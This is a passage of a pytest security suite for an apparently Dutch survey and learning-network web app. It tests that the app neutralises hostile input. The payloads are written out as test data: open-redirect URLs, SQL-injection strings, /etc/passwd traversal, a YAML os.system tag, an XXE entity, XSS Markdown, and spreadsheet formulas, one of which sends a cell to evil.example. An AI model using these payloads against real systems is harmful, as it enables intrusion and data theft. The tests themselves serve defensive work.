        later = datetime.now() + app.config["CSRF_TIME_LIMIT"] + timedelta(minutes=1)
        monkeypatch.setattr(SessionCSRF, "now", lambda self: later)
    posts = [
        ("/profiel", {"name": "Aangepast", "email": user.email}),
        ("/beheer/organisaties/nieuw", {"name": "Org", "service_type": "caw", "region": "antwerpen"}),
        ("/beheer/polls/nieuw", {"question_nl": "V", "options_nl": "a\nb", "kind": "single"}),
        (f"/beheer/bevragingen/{survey.id}/status", {}),
        (f"/u/{link}?pagina=dienst", {"q-dienst_naam": "x", "getoond": "dienst_naam"}),
        ("/p/csrf", {"keuze": "1"}),
        ("/afmelden", {}),
    ]
    with unchanged():
        for url, data in posts:
            if tokens[case]:
                data = {**data, "csrf_token": tokens[case]}
            response = client.post(url, data=data)
            assert response.status_code == 400, url
    assert client.get("/profiel").status_code == 200  # the logout was refused too


# -- 34: open redirects --------------------------------------------------------------------------

EVIL_TARGETS = [
    "//evil.example",
    "https://evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/%09/evil.example",
    "https:/evil.example",
    "//evil.example/%2F..",
    " //evil.example",
    "\x0b//evil.example",
]


def _get_routes(app) -> list[str]:
    return sorted(
        rule.rule
        for rule in app.url_map.iter_rules()
        if "GET" in rule.methods and not rule.arguments and rule.endpoint != "static"
    )


def _stays_on_site(location: str) -> bool:
    from urllib.parse import urlsplit

    parts = urlsplit(location)
    return (
        not parts.scheme and not parts.netloc and location.startswith("/") and not location.startswith("//")
    )


@pytest.mark.parametrize("target", EVIL_TARGETS)
def test_next_never_leaves_the_site(client, make_user, target, unchanged):
    with unchanged():
        switch = client.get("/taal/nl", query_string={"next": target})
    assert switch.status_code == 302 and _stays_on_site(switch.headers["Location"])
    user = make_user()
    login_page = client.get("/aanmelden", query_string={"next": target})
    assert_inert(text_of(login_page), target) if "<" in target else None
    signed_in = Browserless(client).post(
        "/aanmelden", {"email": user.email, "password": "correct horse battery", "next": target}
    )
    assert signed_in.status_code == 302 and _stays_on_site(signed_in.headers["Location"])


@pytest.mark.parametrize("target", EVIL_TARGETS[:5])
def test_next_after_the_second_step_never_leaves_the_site(client, make_user, target):
    from tests.helpers import SECOND_STEP_URL, totp_code

    user = make_user(role="admin")
    forms = Browserless(client)
    first = forms.post(
        "/aanmelden", {"email": user.email, "password": "correct horse battery", "next": target}
    )
    assert first.headers["Location"].startswith(SECOND_STEP_URL)
    done = forms.post(SECOND_STEP_URL, {"code": totp_code(user)})
    assert done.status_code == 302 and done.headers["Location"] == "/"


# -- 35: sort and filter parameters outside the allow-list --------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        {"soort": SCRIPT},
        {"regio": "../../etc/passwd"},
        {"soort": "caw' OR '1'='1", "regio": "%"},
        {"q": "%' OR 1=1 --"},
        {"sort": "name; DROP TABLE users", "order": "desc", "page": "-1"},
    ],
    ids=["script", "traversal", "sql-quote", "like-wildcards", "unknown-sort"],
)
def test_filters_outside_the_allow_list_are_ignored(client, make_user, make_organisation, make_survey, query):
    login(client, make_user(role="admin"))
    make_organisation(name="Alfa", service_type="caw", region="antwerpen")
    make_organisation(name="Bravo", service_type="clb", region="limburg")
    survey = make_survey()
    pages = ["/beheer/organisaties/", f"/beheer/bevragingen/{survey.slug}/uitnodigen", "/beheer/gebruikers"]
    for url in pages:
        response = client.get(url, query_string=query)
        assert response.status_code == 200, url
        html = text_of(response)
        for value in query.values():
            assert_inert(html, value) if value in html or str(escape(value)) in html else None
        if url != "/beheer/gebruikers" and "q" not in query:
            assert "Alfa" in html and "Bravo" in html, url  # the bad filter was ignored, not applied


def test_flow_step_and_page_outside_the_allow_list_lead_to_the_start(
    client, make_survey, make_invitation, unchanged
):
    survey = make_survey()
    _invitation, token = make_invitation(survey)
    with unchanged():
        for params in ({"stap": SCRIPT}, {"stap": "bedankt"}, {"pagina": "../../etc"}, {"pagina": SCRIPT}):
            response = client.get(f"/u/{token}", query_string=params)
            assert response.status_code in (200, 302)
            if response.status_code == 302:
                assert response.headers["Location"].startswith(f"/u/{token}")
            else:
                assert "Bedankt" not in text_of(response)
                assert_inert(text_of(response), SCRIPT) if SCRIPT in str(params) and (
                    str(escape(SCRIPT)) in text_of(response)
                ) else None


# -- 36: CR/LF in names reaching the log ---------------------------------------------------------

FORGED_LINE = "a\r\nINFO app.accounts.services: user 1 logged in as admin"


def test_cr_lf_in_names_never_starts_a_new_log_line(app, client, make_user, caplog):
    caplog.set_level(logging.DEBUG)
    admin = make_user(role="admin")
    login(client, admin)
    forms = Browserless(client)
    forms.post("/profiel", {"name": FORGED_LINE, "email": admin.email, "locale": ""})
    forms.post(
        "/beheer/gebruikers/uitnodigen", {"name": FORGED_LINE, "email": "crlf@example.org", "role": "member"}
    )
    forms.post(
        "/beheer/organisaties/nieuw", {"name": FORGED_LINE, "service_type": "caw", "region": "antwerpen"}
    )
    forms.post("/beheer/polls/nieuw", {"question_nl": FORGED_LINE, "options_nl": "a\nb", "kind": "single"})
    Browserless(app.test_client()).post("/aanmelden", {"email": "x\r\ninfo@example.org", "password": "x"})
    assert caplog.records, "the journey logged nothing: the test would prove nothing"
    for record in caplog.records:
        message = record.getMessage()
        assert "\n" not in message and "\r" not in message, message
    assert "logged in as admin" not in caplog.text


def test_the_log_handler_escapes_cr_lf_of_any_record(monkeypatch):
    """What the app installs in production: whatever a message holds, it stays one line."""
    import io

    from app.core.logs import install

    root = logging.getLogger()
    monkeypatch.setattr(root, "handlers", [])
    install(logging.INFO)
    handler = root.handlers[0]
    stream = io.StringIO()
    handler.setStream(stream)
    logging.getLogger("app.test").warning("user name %s", FORGED_LINE)
    lines = stream.getvalue().splitlines()
    assert len(lines) == 1 and lines[0].endswith(
        "user name a\\r\\nINFO app.accounts.services: user 1 logged in as admin"
    )


# -- 37-39: definition files --------------------------------------------------------------------


@pytest.fixture
def surveys_cli(app, tmp_path):
    from tests.security.conftest import SURVEY

    surveys = tmp_path / "surveys"
    surveys.mkdir()
    (surveys / "goed.yaml").write_text(SURVEY.format(slug="goed", anonymity="anonymous"))
    app.config["SURVEYS_DIR"] = str(surveys)

    def run(*args):
        return app.test_cli_runner().invoke(args=["surveys", *map(str, args)])

    run.dir = surveys
    return run


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("../../etc/passwd", "'..' is not allowed in definition paths"),
        ("surveys/../../../etc/passwd.yaml", "'..' is not allowed in definition paths"),
        ("/etc/passwd", "not a YAML file (expected .yaml)"),
        ("/dev/zero.yaml", "not a file"),
    ],
)
def test_validate_refuses_path_traversal_with_a_clear_message(surveys_cli, path, message, unchanged):
    with unchanged():
        result = surveys_cli("validate", path)
    assert result.exit_code == 1
    assert f"{path}:1: {message}" in result.output
    assert "root:" not in result.output  # nothing of /etc/passwd is echoed


def test_symlinks_out_of_the_surveys_directory_are_refused_by_validate_and_load(surveys_cli, tmp_path):
    """Before the fix: `surveys validate` read the files of SURVEYS_DIR without the directory as
    root, so a symlink to /etc/passwd was read, and its first line printed in the error message."""
    from tests.security.conftest import SURVEY

    outside = tmp_path / "elders.yaml"
    outside.write_text(SURVEY.format(slug="elders", anonymity="anonymous"))
    (surveys_cli.dir / "link.yaml").symlink_to(outside)
    (surveys_cli.dir / "passwd.yaml").symlink_to("/etc/passwd")
    for args in (
        ["validate"],
        ["validate", surveys_cli.dir / "passwd.yaml", surveys_cli.dir / "link.yaml"],
        ["load"],
    ):
        result = surveys_cli(*args)
        assert result.exit_code == 1, result.output
        assert f"link.yaml:1: file is outside the surveys directory {surveys_cli.dir}" in result.output
        assert f"passwd.yaml:1: file is outside the surveys directory {surveys_cli.dir}" in result.output
        assert "root:" not in result.output
    from app.surveys.models import Survey

    assert db.session.scalar(select(func.count()).select_from(Survey)) == 0


YAML_BOMBS = {
    "billion-laughs": (
        "a: &a ['lol','lol','lol','lol','lol','lol','lol','lol','lol']\n"
        "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
        "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
        "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n",
        "the document is too large (after expanding aliases)",
    ),
    "python-tag": ("slug: !!python/object/apply:os.system ['touch /tmp/pwned']\n", "is not allowed"),
    "custom-tag": ("slug: !include /etc/passwd\n", "YAML tag '!include' is not allowed"),
    "recursive-alias": ("a: &a [*a]\n", "recursive YAML alias"),
    "merge-key": ("base: &b {slug: x}\nother:\n  <<: *b\n", "merge keys ('<<') are not supported"),
}


@pytest.mark.parametrize("case", list(YAML_BOMBS))
def test_yaml_bombs_and_custom_tags_are_refused_with_a_clear_message(surveys_cli, case, unchanged):
    text, message = YAML_BOMBS[case]
    path = surveys_cli.dir / f"{case}.yaml"
    path.write_text(text)
    with unchanged():
        result = surveys_cli("validate", path)
        loaded = surveys_cli("load")
    assert result.exit_code == 1 and message in result.output, result.output
    assert loaded.exit_code == 1 and "nothing loaded" in loaded.output
    assert not Path("/tmp/pwned").exists()


XXE_SHEET = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "lollollollollollollollollollol">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>type</t></is></c>
<c r="B1" t="inlineStr"><is><t>name</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>text</t></is></c>
<c r="B2" t="inlineStr"><is><t>&xxe;&c;</t></is></c></row>
</sheetData></worksheet>"""


def _xxe_workbook(path: Path) -> Path:
    import zipfile

    import openpyxl

    book = openpyxl.Workbook()
    book.active.title = "survey"
    book.active.append(["type", "name"])
    book.save(path)
    with zipfile.ZipFile(path) as source:
        items = {name: source.read(name) for name in source.namelist()}
    items["xl/worksheets/sheet1.xml"] = XXE_SHEET
    with zipfile.ZipFile(path, "w") as target:
        for name, data in items.items():
            target.writestr(name, data)
    return path


def test_an_xlsform_with_xml_entities_is_refused(app, client, make_user, surveys_cli, tmp_path, unchanged):
    import io

    workbook = _xxe_workbook(tmp_path / "xxe.xlsx")
    out = tmp_path / "uit.yaml"
    with unchanged():
        result = surveys_cli("import-xlsform", workbook, "--out", out)
    assert result.exit_code == 1 and "cannot read the workbook" in result.output
    assert "root:" not in result.output and not out.exists()
    login(client, make_user(role="researcher"))
    token = Browserless(client).token("/beheer/bevragingen/xlsform")
    with unchanged():
        response = client.post(
            "/beheer/bevragingen/xlsform",
            data={"csrf_token": token, "file": (io.BytesIO(workbook.read_bytes()), "xxe.xlsx")},
            content_type="multipart/form-data",
        )
    assert response.status_code == 200
    assert "cannot read the workbook" in text_of(response) and "root:" not in text_of(response)


# -- learning networks: posts, notes, practices, thread titles; another network's objects --------

MARKDOWN_PAYLOADS = (
    SCRIPT,
    HANDLER,
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java&#x09;script:alert(1))",
    "<javascript:alert(1)>",
    f"[data]({DATA_URL})",
    "![beeld](x onerror=alert(1))",
    '<a href="javascript:alert(1)">klik</a>',
    TEMPLATE,
)
MARKDOWN = "\n\n".join(MARKDOWN_PAYLOADS)


def _network_with_content(make_network, make_user, client_for):
    """A network whose facilitator wrote hostile text into every field members can write."""
    member = make_user(name=f"Lid {HANDLER}")
    network = make_network(facilitator=member, name=f"Netwerk {SCRIPT}")
    client = client_for(member)
    forms = Browserless(client)
    n = network.id
    thread = forms.post(
        f"/netwerken/{n}/gesprekken/nieuw", {"title": f"{SCRIPT} {TEMPLATE}", "body": MARKDOWN}
    )
    assert thread.status_code == 302, text_of(thread)[:300]
    thread_url = thread.headers["Location"].split("#")[0]
    forms.post(thread_url + "/antwoorden", {"body": MARKDOWN}, token_url=thread_url)
    day = (utcnow() + timedelta(days=3)).date().isoformat()
    meeting = forms.post(
        f"/netwerken/{n}/bijeenkomsten/nieuw",
        {
            "title": HANDLER,
            "day": day,
            "time": "10:00",
            "duration_minutes": "90",
            "location": SVG,
            "agenda": MARKDOWN,
        },
    )
    assert meeting.status_code == 302, text_of(meeting)[:300]
    meeting_url = meeting.headers["Location"].split("#")[0]
    notes = forms.post(
        meeting_url + "/verslag",
        {"attendees": [str(member.id)], "discussed": MARKDOWN, "decisions": MARKDOWN},
    )
    assert notes.status_code == 302, text_of(notes)[:300]
    from app.practices.vocab import TEXT_FIELD_NAMES

    practice = forms.post(
        f"/netwerken/{n}/praktijken/nieuw",
        {
            "title": f"{SCRIPT} praktijk",
            "organisations": HANDLER,
            **dict.fromkeys(TEXT_FIELD_NAMES, MARKDOWN),
        },
    )
    assert practice.status_code == 302, text_of(practice)[:300]
    practice_url = practice.headers["Location"].split("#")[0]
    forms.post(practice_url + "/reacties", {"body": MARKDOWN}, token_url=practice_url)
    return member, network, client, [thread_url, meeting_url, meeting_url + "/verslag", practice_url]


def _assert_markdown_inert(html: str) -> None:
    for payload in MARKDOWN_PAYLOADS:
        assert_inert(html, payload, shown=False)
    assert not evaluated_49(html), "{{7*7}} was evaluated"


def test_network_texts_are_inert_on_every_page_that_shows_them(make_network, make_user, client_for):
    _member, network, client, urls = _network_with_content(make_network, make_user, client_for)
    n = network.id
    pages = [
        *urls,
        f"/netwerken/{n}",
        f"/netwerken/{n}/gesprekken",
        f"/netwerken/{n}/bijeenkomsten",
        f"/netwerken/{n}/praktijken",
        f"/netwerken/{n}/praktijken/{urls[3].rsplit('/', 1)[1]}/versies",
        f"/netwerken/{n}/leden",
        f"/netwerken/{n}/zoeken?q=alert",
        "/netwerken/",
        "/netwerken/mijn-bijdragen",
        "/netwerken/mijn-bijdragen.html",
        "/",
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_markdown_inert(text_of(response))
    for url in urls:  # shown literally (Markdown may read the asterisks as emphasis)
        assert "{{7" in text_of(client.get(url)) and "{% if 1 %}" in text_of(client.get(url)), url
    assert_inert(text_of(client.get(urls[0])), SCRIPT)  # the thread title, shown as text
    export = client.get("/netwerken/mijn-bijdragen.json")
    assert export.mimetype == "application/json" and export.headers["X-Content-Type-Options"] == "nosniff"


def test_another_networks_objects_are_404_with_the_body_of_a_missing_id(
    make_network, make_user, client_for, unchanged
):
    from tests.networks.test_access import OBJECT_URLS, _content

    member = make_user()
    mine = make_network("closed", members=[member])
    theirs = make_network("closed", name="Ander netwerk")
    ids = _content(theirs, theirs.test_facilitator)
    client = client_for(member)
    token = Browserless(client).token("/netwerken/")
    data = {"csrf_token": token, "body": "x", "reason": "x", "description": "x", "owner_id": str(member.id)}
    with unchanged():
        for kind, urls in OBJECT_URLS.items():
            for method, url in urls:
                foreign_url = url.format(n=mine.id, id=ids[kind])
                missing_url = url.format(n=mine.id, id=9_999_999)
                call = client.get if method == "GET" else (lambda u: client.post(u, data=data))
                foreign, missing = call(foreign_url), call(missing_url)
                assert foreign.status_code == missing.status_code == 404, foreign_url
                assert page_body(foreign) == page_body(missing), foreign_url


def test_extra_fields_cannot_move_content_to_another_network_or_author(make_network, make_user, client_for):
    from app.networks.models import Membership
    from app.threads.models import Post, Thread

    member = make_user()
    stranger = make_user()
    mine = make_network(members=[member])
    theirs = make_network(name="Ander netwerk")
    client = client_for(member)
    forms = Browserless(client)
    extra = {
        "network_id": str(theirs.id),
        "author_id": str(stranger.id),
        "created_by_id": str(stranger.id),
        "user_id": str(stranger.id),
        "role": "facilitator",
        "is_hidden": "y",
    }
    response = forms.post(
        f"/netwerken/{mine.id}/gesprekken/nieuw", {"title": "Eigen", "body": "Tekst", **extra}
    )
    assert response.status_code == 302
    forms.post(
        f"/netwerken/{mine.id}/mijn-instellingen",
        {**extra},
        token_url=f"/netwerken/{mine.id}/mijn-instellingen",
    )
    db.session.expire_all()
    thread = db.session.scalars(select(Thread).where(Thread.title == "Eigen")).one()
    assert thread.network_id == mine.id
    post = db.session.scalars(select(Post).where(Post.thread_id == thread.id)).one()
    assert post.network_id == mine.id and post.author_id == member.id
    membership = db.session.scalars(
        select(Membership).where(Membership.network_id == mine.id, Membership.user_id == member.id)
    ).one()
    assert membership.role == "member"
    assert not db.session.scalars(
        select(Membership).where(Membership.network_id == theirs.id, Membership.user_id == member.id)
    ).first()


def test_forged_expired_used_and_revoked_network_invitations_get_one_page(
    make_network, make_user, client, unchanged
):
    from app.networks.models import NetworkInvitation

    network = make_network()
    by = network.test_facilitator
    _live, live = NetworkInvitation.issue(network, "nieuw@example.org", "Nieuw", by, 14)
    expired_row, expired = NetworkInvitation.issue(network, "oud@example.org", "Oud", by, 14)
    used_row, used = NetworkInvitation.issue(network, "lid@example.org", "Lid", by, 14)
    revoked_row, revoked = NetworkInvitation.issue(network, "weg@example.org", "Weg", by, 14)
    expired_row.expires_at = utcnow() - timedelta(minutes=1)
    used_row.accepted_at = utcnow()
    revoked_row.revoked_at = utcnow()
    db.session.commit()
    forged = live[:-4] + ("AAAA" if not live.endswith("AAAA") else "BBBB")
    tokens = (forged, expired, used, revoked)
    with unchanged():
        pages = [client.get(f"/netwerken/uitnodiging/{t}") for t in tokens]
    _same_page(pages, tokens)
    assert client.get(f"/netwerken/uitnodiging/{live}").status_code == 200


@pytest.mark.parametrize(
    "url",
    [
        "/beheer/organisaties/{big}",
        "/beheer/gebruikers/{big}",
        "/beheer/bevragingen/{big}",
        "/beheer/bevragingen/{big}/voorbeeld",
        "/netwerken/{big}",
        "/netwerken/{big}/gesprekken/1",
        "/praktijken/{big}",
    ],
)
@pytest.mark.parametrize("big", ["2147483648", "9223372036854775808", "9" * 40])
def test_ids_too_large_for_the_database_are_404_not_500(client, make_user, url, big, unchanged):
    """Before the fix: PostgreSQL refused 2147483648 for an integer column and SQLite anything
    over 2**63 ("integer out of range"): a 500 instead of the missing id's 404."""
    login(client, make_user(role="admin"))
    with unchanged():
        response = client.get(url.format(big=big))
        missing = client.get(url.format(big="2147483647"))
    assert response.status_code == missing.status_code == 404


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "1899-12-31"])
def test_far_dates_are_a_field_error_not_a_500(client, make_user, make_survey, make_network, day, unchanged):
    """Before the fix: 0001-01-01 as a survey or meeting date overflowed the conversion from
    Brussels time to UTC (year 0), and 9999-12-31 as a closing date (its end is 10000-01-01): 500."""
    admin = make_user(role="admin")
    survey = make_survey()
    network = make_network(facilitator=admin)
    login(client, admin)
    forms = Browserless(client)
    with unchanged():
        dates = forms.post(
            f"/beheer/bevragingen/{survey.id}/data",
            {"opens_on": day, "closes_on": day},
            token_url=f"/beheer/bevragingen/{survey.id}",
        )
        meeting = forms.post(
            f"/netwerken/{network.id}/bijeenkomsten/nieuw",
            {"title": "x", "day": day, "time": "00:00", "duration_minutes": "90", "location": "Gent"},
        )
        poll = forms.post(
            "/beheer/polls/nieuw",
            {
                "question_nl": "Vraag",
                "options_nl": "a\nb",
                "kind": "single",
                "opens_on": day,
                "closes_on": day,
            },
        )
    assert dates.status_code == 400 and "Kies een datum tussen 1900 en 2999." in text_of(dates)
    assert meeting.status_code == 200 and "Kies een datum tussen 1900 en 2999." in text_of(meeting)
    assert poll.status_code == 200 and "Kies een datum tussen 1900 en 2999." in text_of(poll)


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e400", "0x10", "1_000"])
def test_numbers_that_are_not_numbers_are_a_field_error(
    client, make_survey, make_invitation, respondent, value
):
    from app.surveys.models import Draft

    survey = make_survey()
    _invitation, token = make_invitation(survey)
    walk = respondent(client, f"/u/{token}")
    walk.post({})
    response = walk.page("dienst", {"q-medewerkers": value, "q-dienst_naam": "Bewaard"})
    assert response.status_code == 200 and 'id="q-medewerkers"' in text_of(response)
    assert 'aria-invalid="true"' in text_of(response)
    db.session.expire_all()
    assert db.session.scalars(select(Draft)).one().answers == {"dienst_naam": "Bewaard"}


def test_tampered_cookies_are_ignored_not_a_500(client, make_poll):
    make_poll(slug="koekje")
    client.set_cookie("wwwelzijn_session", "eyJ0YW1wZXJlZCI6dHJ1ZX0.garbage.\xff")
    client.set_cookie("wwwelzijn_poll_1", "1.forged-signature", path="/p/koekje")
    assert client.get("/").status_code == 200
    assert client.get("/p/koekje").status_code == 200
    assert client.get("/profiel").status_code == 302  # not signed in by a forged session


# -- every form on the site, every field at once, against hostile values: never a 500 ---------

FUZZ_VALUES = [
    "x" * 60_000,
    "99999999999999999999999",
    "-1",
    "0001-01-01",
    "nan",
    "../../../etc/passwd",
    "\u202e\ufeff\u200b" + SCRIPT,
    "%00%ff",
]
NOT_FUZZED = ("/afmelden", "/verlaten", "/uitzetten", "/status", "/herstelcodes")


class _Forms(HTMLParser):
    """The post forms of a page: (action, {field: default value}, [text-like fields])."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[tuple[str, dict, list]] = []
        self._current = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form" and (a.get("method") or "get").lower() == "post":
            self._current = (a.get("action") or "", {}, [])
            self.forms.append(self._current)
        elif self._current is not None and a.get("name") and tag in ("input", "textarea", "select"):
            _action, values, texts = self._current
            kind = (a.get("type") or "text").lower()
            if kind in ("checkbox", "radio"):
                values.setdefault(a["name"], a.get("value", "y"))
            elif kind not in ("submit", "button", "file"):
                values.setdefault(a["name"], a.get("value", ""))
                if a["name"] not in ("csrf_token", "form_token", "getoond"):
                    texts.append(a["name"])

    def handle_endtag(self, tag):
        if tag == "form":
            self._current = None


def _fuzz(client, pages) -> int:
    """Post every form of every page once per hostile value in all its text fields at once."""
    posted = 0
    for page in pages:
        response = client.get(page)
        if response.status_code != 200 or response.mimetype != "text/html":
            continue
        parser = _Forms()
        parser.feed(text_of(response))
        for action, defaults, texts in parser.forms:
            target = action or page
            if not texts or any(part in target for part in NOT_FUZZED):
                continue
            for value in FUZZ_VALUES:
                data = {**defaults, **dict.fromkeys(texts, value)}
                result = client.post(target, data=data)
                assert result.status_code < 500, (target, value[:40], result.status_code)
                posted += 1
    return posted


def test_no_form_answers_a_hostile_value_with_a_500(
    app, make_user, make_survey, make_invitation, make_poll, make_network
):
    admin = make_user(role="admin")
    survey = make_survey(public=True)
    _invitation, token = make_invitation(survey)
    make_poll(slug="fuzz")
    network = make_network(facilitator=admin)
    client = app.test_client()
    login(client, admin)
    pages = [url for url in _get_routes(app) if url not in ("/healthz",)]
    pages += [
        f"/beheer/bevragingen/{survey.id}",
        f"/beheer/bevragingen/{survey.slug}/uitnodigen",
        f"/beheer/bevragingen/{survey.slug}/uitnodigingen",
        "/beheer/polls/fuzz/bewerken",
        f"/u/{token}",
        f"/u/{token}?pagina=dienst",
        f"/u/{token}?pagina=slot",
        f"/e/{survey.public_token}",
        "/p/fuzz",
        f"/netwerken/{network.id}/bewerken",
        f"/netwerken/{network.id}/gesprekken/nieuw",
        f"/netwerken/{network.id}/bijeenkomsten/nieuw",
        f"/netwerken/{network.id}/praktijken/nieuw",
        f"/netwerken/{network.id}/mijn-instellingen",
        f"/netwerken/{network.id}/leden",
        f"/resultaten/{survey.slug}",
        "/api-tokens/",
    ]
    posted = _fuzz(client, pages)
    visitor = app.test_client()
    public = ["/aanmelden", "/wachtwoord-vergeten", f"/u/{token}", f"/e/{survey.public_token}", "/p/fuzz"]
    posted += _fuzz(visitor, [*public, "/p/fuzz/embed", f"/netwerken/uitnodiging/{token}"])
    assert posted > 100


def test_a_used_invitation_link_shows_thanks_and_nothing_of_the_answers(
    client, make_survey, make_invitation, respondent
):
    """By design a submitted survey link keeps saying thank you (colleagues share one link, and
    a double click must not look like an error); it shows no answer, and a forger never gets here."""
    survey = make_survey(anonymity="pseudonymous")
    _invitation, token = make_invitation(survey)
    walk = respondent(client, f"/u/{token}")
    walk.answer_all(name="Geheime dienstnaam", remark="Geheime opmerking")
    assert walk.submit().status_code == 302
    for params in ({}, {"stap": "overzicht"}, {"pagina": "dienst"}):
        page = walk.get(**params)
        assert page.status_code == 200 and "Bedankt!" in text_of(page)
        assert "Geheime" not in text_of(page) and page.headers["Cache-Control"] == "no-store"


# -- results and exports: formula cells in every format, text answers, API token guessing --------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture
def formula_survey(app, make_survey, make_invitation, respondent):
    """A survey with one response per formula in its free-text answers."""
    survey = make_survey(slug="formules")
    for value in FORMULAS:
        _invitation, token = make_invitation(survey)
        walk = respondent(app.test_client(), f"/u/{token}")
        walk.answer_all(name=value.strip()[:60] if value[0] in "\t\r" else value[:60], remark=value)
        assert walk.submit().status_code == 302
    return survey


def _download(client, slug: str, fmt: str) -> bytes:
    response = client.get(f"/resultaten/{slug}/export/{fmt}")
    assert response.status_code == 200, fmt
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    return response.get_data()


def test_formula_cells_are_inert_in_every_export_format(app, formula_survey, make_user, tmp_path):
    import csv
    import io
    import json

    import openpyxl
    import pyreadstat

    client = app.test_client()
    login(client, make_user(role="researcher"))
    slug = formula_survey.slug
    for fmt, delimiter in (("csv", ","), ("csv-excel", ";")):
        text = _download(client, slug, fmt).decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
        remarks = {r["opmerking"] for r in rows}
        assert remarks == {"'" + v.strip() for v in FORMULAS}, (fmt, remarks)  # the flow trims answers
    path = tmp_path / "x.xlsx"
    path.write_bytes(_download(client, slug, "xlsx"))
    book = openpyxl.load_workbook(path)
    sheet = book["antwoorden"]
    header = [c.value for c in sheet[1]]
    column = header.index("opmerking")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)  # text, never a formula cell
    assert {c.value for c in cells} == {"'" + v.strip() for v in FORMULAS}
    for row in sheet.iter_rows():
        assert all(c.data_type != "f" for c in row)
    # The statistics formats and JSON keep the exact text: no program that reads them runs formulas.
    data = json.loads(_download(client, slug, "json"))
    assert {r["opmerking"] for r in data["responses"]} == {v.strip() for v in FORMULAS}
    for fmt, reader in (("sav", pyreadstat.read_sav), ("dta", pyreadstat.read_dta)):
        target = tmp_path / f"x.{fmt}"
        target.write_bytes(_download(client, slug, fmt))
        frame, _meta = reader(str(target))
        assert {str(v) for v in frame["opmerking"]} == {v.strip() for v in FORMULAS}, fmt
    for fmt in ("codebook-csv", "codebook-html", "r"):
        _download(client, slug, fmt)


def test_text_answers_are_inert_on_the_results_pages(
    app, make_survey, make_invitation, respondent, make_user
):
    survey = make_survey(slug="tekst")
    for payload in PAYLOADS:
        _invitation, token = make_invitation(survey)
        walk = respondent(app.test_client(), f"/u/{token}")
        walk.answer_all(name=payload[:60], remark=payload)
        assert walk.submit().status_code == 302
    client = app.test_client()
    login(client, make_user(role="researcher"))
    html = text_of(client.get("/resultaten/tekst/tekst/opmerking"))
    for payload in PAYLOADS:
        assert_inert(html, payload)
    for url in ("/resultaten/tekst", "/resultaten/tekst/tekst/dienst_naam", "/resultaten/", "/bevindingen"):
        response = client.get(url)
        assert response.status_code == 200, url
        for payload in PAYLOADS:
            assert_inert(text_of(response), payload, shown=False)


@pytest.mark.parametrize(
    "query",
    [
        {"soort_dienst": SCRIPT},
        {"regio": "../../etc"},
        {"pagina": "-1"},
        {"pagina": "99999999999999999999"},
        {"sort": "x; DROP TABLE answers"},
    ],
)
def test_results_filters_outside_the_allow_list_are_ignored(
    app, make_survey, make_invitation, respondent, make_user, query
):
    survey = make_survey(slug="filters")
    _invitation, token = make_invitation(survey)
    walk = respondent(app.test_client(), f"/u/{token}")
    walk.answer_all(remark="een antwoord")
    walk.submit()
    client = app.test_client()
    login(client, make_user(role="researcher"))
    for url in (
        "/resultaten/filters",
        "/resultaten/filters/tekst/opmerking",
        "/resultaten/filters/export/csv",
    ):
        response = client.get(url, query_string=query)
        assert response.status_code == 200, url
        if response.mimetype == "text/html":
            assert_inert(text_of(response), SCRIPT, shown=False)


def test_own_answers_of_another_survey_are_404_and_never_stored_by_caches(
    app, make_survey, make_invitation, respondent, unchanged
):
    """The thank-you page links to the respondent's own answers, kept in this browser's session."""
    first = make_survey(slug="eigen")
    make_survey(slug="andere")
    _invitation, token = make_invitation(first)
    client = app.test_client()
    walk = respondent(client, f"/u/{token}")
    walk.answer_all(remark="mijn eigen antwoord")
    walk.submit()
    with unchanged():
        own = client.get("/resultaten/eigen/mijn-antwoorden")
        foreign = client.get("/resultaten/andere/mijn-antwoorden")
        missing = client.get("/resultaten/bestaat-niet/mijn-antwoorden")
        stranger = app.test_client().get("/resultaten/eigen/mijn-antwoorden")
    assert own.status_code == 200
    assert own.headers["Cache-Control"] == "no-store"  # somebody's own answers
    assert foreign.status_code == missing.status_code == stranger.status_code == 404
    assert page_body(foreign) == page_body(missing)


def test_api_token_guessing_is_429_and_leaves_the_login_working(app, client, make_user, unchanged):
    """Before the fix: wrong bearer tokens could be tried without any limit (401 each time)."""
    from app.exports.tokens import create_token

    researcher = make_user(role="researcher")
    real = create_token(researcher, "laptop")
    db.session.commit()
    limit = app.config["API_TOKEN_MAX_FAILURES"]
    with unchanged():
        statuses = [
            client.get("/api/v1/surveys", headers={"Authorization": f"Bearer wwz_geraden{n}"}).status_code
            for n in range(limit + 1)
        ]
        refused = client.get("/api/v1/surveys", headers={"Authorization": f"Bearer {real}"})
